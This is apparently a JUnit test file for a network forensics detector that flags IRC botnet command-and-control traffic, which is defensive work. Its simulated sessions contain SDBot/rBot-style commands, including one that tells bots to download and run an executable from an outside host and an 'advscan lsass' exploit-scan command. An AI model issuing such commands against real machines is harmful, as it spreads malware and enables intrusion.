package org.hyakuyobako.detect.irc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.hyakuyobako.detect.Detectors;
import org.hyakuyobako.event.Event;
import org.hyakuyobako.event.EvidenceEvent;
import org.hyakuyobako.simulate.GroundTruth;
import org.hyakuyobako.simulate.Scenario;
import org.hyakuyobako.testing.Corpus;
import org.hyakuyobako.testing.EventCollector;
import org.hyakuyobako.testing.SimulatedCaptures;
import org.hyakuyobako.testing.IrcConversation;
import org.hyakuyobako.testing.Pipelines;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Bot C&C analysis (D3): SDBot/rBot-style sessions are found, people chatting are not. */
class IrcCncDetectorTest {
    @TempDir
    Path dir;

    private final List<Event> evidence = new ArrayList<>();
    private final IrcCncDetector detector = new IrcCncDetector(BotVocabulary.bundled(), e -> {
        if (e instanceof EvidenceEvent) {
            evidence.add(e);
        }
    });

    private List<EvidenceEvent> found() {
        return evidence.stream().map(EvidenceEvent.class::cast).toList();
    }

    @Test
    void sdbotStyleSessionNamesHostCncChannelAndCommand() {
        new IrcConversation(detector, "10.1.2.3", "203.0.113.9", 7000)
                .client("NICK USA|49201833\r\nUSER kzkdq 0 0 :USA|49201833\r\n")
                .server(":irc.x 001 USA|49201833 :Welcome\r\n")
                .client("JOIN #sd0 s3cret\r\n")
                .server(":irc.x 332 USA|49201833 #sd0 :.download http://198.51.100.4/msupd.exe c:\\msupd.exe 1\r\n")
                .server(":irc.x 332 USA|49201833 #sd0 :.advscan lsass 200 5 0 -r -s\r\n")
                .client("PRIVMSG #sd0 :[DOWNLOAD]: Downloaded 112.0 KB to c:\\msupd.exe @ 112.0 KB/sec.\r\n");
        List<EvidenceEvent> e = found();
        assertEquals(3, e.size(), e.toString());
        for (EvidenceEvent ev : e) {
            assertEquals("10.1.2.3", ev.host());
            assertEquals("203.0.113.9:7000", ev.peer());
            assertEquals("irc", ev.method());
            assertTrue(ev.references().contains("channel:#sd0"), ev.references().toString());
        }
        assertTrue(e.stream().anyMatch(x -> x.summary().contains("http://198.51.100.4/msupd.exe")));
        assertTrue(e.stream().anyMatch(x -> x.summary().startsWith("sends bot report '[DOWNLOAD]:")
                && x.summary().contains("after command '.download")), e.toString());
    }

    @Test
    void peopleTalkingAboutBotCommandsAreNotBots() {
        new IrcConversation(detector, "10.1.2.4", "203.0.113.10", 6667)
                .client("NICK alice\r\nUSER alice 0 * :Alice\r\nJOIN #security\r\n")
                .server(":irc.x 332 alice #security :Bot of the week: .advscan lsass 200 5 0 -r -s\r\n")
                .server(":bob!b@h PRIVMSG #security :.download http://198.51.100.4/sample.exe is what the rbot sent\r\n")
                .client("PRIVMSG #security :interesting, the report looks like [DOWNLOAD]: ... right?\r\n")
                .client("PRIVMSG #security :download the pcap from the wiki\r\n");
        assertEquals(List.of(), found().stream().filter(x -> x.score() >= 0.6).map(EvidenceEvent::summary).toList());
    }

    @Test
    void refusalsIgnoredAgainAndAgain() {
        IrcConversation c = new IrcConversation(detector, "10.1.2.5", "203.0.113.11", 6667).client("NICK Bot|9277\r\n");
        for (int i = 0; i < 5; i++) {
            c.client("JOIN #x key\r\n").server(":irc.x 475 Bot|9277 #x :Cannot join channel (+k)\r\n");
        }
        assertEquals(1, found().size());
        assertTrue(found().get(0).summary().startsWith("keeps joining #x after the server refused"));
    }

    @Test
    void machineMadeNicks() {
        for (String n : List.of("[x]IqRkpiH", "JPN|425015894", "Bot|9277", "[USA|XP]4821", "a3f9c2e17b", "rbot123456")) {
            assertTrue(MachineNick.looksMachineMade(n), n);
        }
        for (String n : List.of("alice", "molochtest", "THE-USER", "Guest42", "cafe")) {
            assertTrue(!MachineNick.looksMachineMade(n), n);
        }
    }

    @Test
    void usersExtendTheVocabularyAndBadLinesNameFileAndLine() throws IOException {
        Path words = dir.resolve("words.txt");
        Files.writeString(words, "# ours\ncommand mine.start\nreport {MINER}\n");
        BotVocabulary v = BotVocabulary.bundled().add(words);
        assertEquals("mine.start", v.command("!mine.start pool.example 3333"));
        assertEquals("{miner}", v.report("{MINER} hashrate 12 kH/s"));
        assertEquals("ipscan", v.command("ipscan s.s 445"), "bundled bare command, no prefix needed");
        assertEquals(null, v.command("download the pcap"), "plain words need the prefix character");
        Files.writeString(words, "command ok\nfoo bar\n");
        IOException e = assertThrows(IOException.class, () -> BotVocabulary.bundled().add(words));
        assertTrue(e.getMessage().startsWith(words + ":2:"), e.getMessage());
    }

    /**
     * Arkime's and Zeek's IRC traces are people and Twitch chat: no bot C&C evidence. All IRC evidence
     * is asserted, not filtered first: the only item is the weak note that IRC runs on a port that is
     * not an IRC port (Arkime's traces use 8000 and 80), exactly once where it applies.
     *
     * <p>Mutation this test catches (the old filter hid it; tried in AppLayer, failed, restored): the
     * odd-port note raised for every IRC flow, whatever its port and originator (6666, 6667 flagged).
     */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "arkime/irc.pcap|10.180.156.249 38.229.70.20:8000 speaks IRC to 38.229.70.20 on port 8000, which is not an IRC port",
        "arkime/irc-cap-req.pcap|10.10.10.10 10.11.11.11:80 speaks IRC to 10.11.11.11 on port 80, which is not an IRC port",
        "zeek/irc-353.pcap|",
        "zeek/irc-starttls.pcap|"
    })
    void realBenignIrcStaysQuiet(String capture, String oddPortNote) throws IOException {
        EventCollector out = Pipelines.run(List.of(Corpus.file(capture)), a -> Detectors.addDefaults(a, Pipelines.options()));
        List<String> irc = out.of(EvidenceEvent.class).stream().filter(e -> e.method().equals("irc"))
                .map(e -> e.host() + " " + e.peer() + " " + e.summary()).toList();
        assertEquals(oddPortNote == null ? List.of() : List.of(oddPortNote), irc);
    }

    /** The simulator's IRC botnet (topic command, PRIVMSG commands, reports) over several seeds. */
    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5})
    void simulatedIrcBotnetIsFoundExactly(long seed) throws IOException {
        Path run = dir.resolve("seed-" + seed);
        GroundTruth truth = new Scenario(Scenario.Spec.honeypot(seed)).write(run);
        EventCollector out = SimulatedCaptures.analyse(run, Detectors::addDefaults);

        GroundTruth.Botnet irc = truth.botnets.stream().filter(b -> b.channel().equals("irc")).findFirst().orElseThrow();
        List<EvidenceEvent> cnc = out.of(EvidenceEvent.class).stream().filter(e -> e.method().equals("irc"))
                .filter(e -> e.summary().contains("(IRC C&C ")).toList();
        Set<String> hosts = cnc.stream().map(EvidenceEvent::host).collect(Collectors.toCollection(TreeSet::new));
        assertEquals(new TreeSet<>(irc.bots()), hosts);
        Set<String> peers = cnc.stream().map(EvidenceEvent::peer).collect(Collectors.toSet());
        assertEquals(Set.of(irc.cncIp() + ":" + irc.cncPort()), peers);
    }
}
